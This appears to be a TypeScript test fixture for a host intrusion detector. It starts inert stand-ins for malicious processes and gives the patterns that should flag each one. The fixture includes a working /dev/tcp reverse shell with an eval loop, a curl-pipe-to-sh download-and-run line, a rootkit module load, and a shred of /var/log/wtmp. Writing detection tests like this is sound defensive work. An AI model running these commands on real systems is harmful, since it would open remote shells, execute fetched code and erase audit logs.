import { type LivePrograms, waiting } from './live-programs.ts';
import type { ProcessSituation } from './situation.ts';

/** Starts a copy of the shell with further parameters, which it ignores. */
async function start(programs: LivePrograms, path: string, ...parameters: string[]): Promise<number> {
  return programs.run(programs.copy(path), ['-c', waiting, 'sh', ...parameters]);
}

export const processSituations = {
  'host/process/crypto-miner': {
    on: 'processes',
    start: (programs) => start(programs, 'miner/xmrig', '--url', 'stratum+tcp://pool.example:3333'),
    program: /\/miner\/xmrig$/,
    commandLine: 'stratum+tcp://pool.example:3333',
  },
  'host/process/temporary-program': {
    on: 'processes',
    start: (programs) => start(programs, 'build/worker'),
    program: /^\/(?:var\/)?tmp\/.*\/build\/worker$/,
    commandLine: waiting,
  },
  'host/process/hidden-program': {
    on: 'processes',
    start: (programs) => start(programs, '.cache/worker'),
    program: /\/\.cache\/worker$/,
    commandLine: waiting,
  },
  'host/process/deleted-program': {
    on: 'processes',
    async start(programs) {
      const program = programs.copy('updates/updater');
      const pid = await programs.run(program, ['-c', waiting]);
      programs.delete(program);
      return pid;
    },
    program: /\/updates\/updater \(deleted\)$/,
    commandLine: waiting,
  },
  'host/process/reverse-shell': {
    on: 'processes',
    /** A real one, whose other end never sends a command. */
    async start(programs) {
      const peer = `/dev/tcp/127.0.0.1/${await programs.listen()}`;
      const loop = 'while read -r line <&3; do eval "$line" >&3 2>&3; done';
      return programs.run('bash', ['-c', `exec 3<>${peer}; echo ready; ${loop}`]);
    },
    program: /\/bash$/,
    commandLine: '3<>/dev/tcp/127.0.0.1/',
  },
  'host/process/download-and-run': {
    on: 'processes',
    /** It waits before the download, and is ended there. */
    start: (programs) => programs.run('sh', ['-c', `${waiting}; curl -s http://192.0.2.7/x.sh | sh`]),
    program: /\/\w*sh$/,
    commandLine: 'curl -s http://192.0.2.7/x.sh | sh',
  },
  'host/process/kernel-module-inserted': {
    on: 'processes',
    start: (programs) => start(programs, 'sbin/insmod', './diamorphine.ko'),
    program: /\/sbin\/insmod$/,
    commandLine: './diamorphine.ko',
  },
  'host/process/traces-erased': {
    on: 'processes',
    start: (programs) => start(programs, 'bin/shred', '-u', '/var/log/wtmp'),
    program: /\/bin\/shred$/,
    commandLine: '-u /var/log/wtmp',
  },
} satisfies Readonly<Record<string, ProcessSituation>>;

/** A process that no policy looks for. */
export function startOrdinary(programs: LivePrograms): Promise<number> {
  return programs.run('sh', ['-c', waiting, 'sh', '--url', 'https://shop.example']);
}
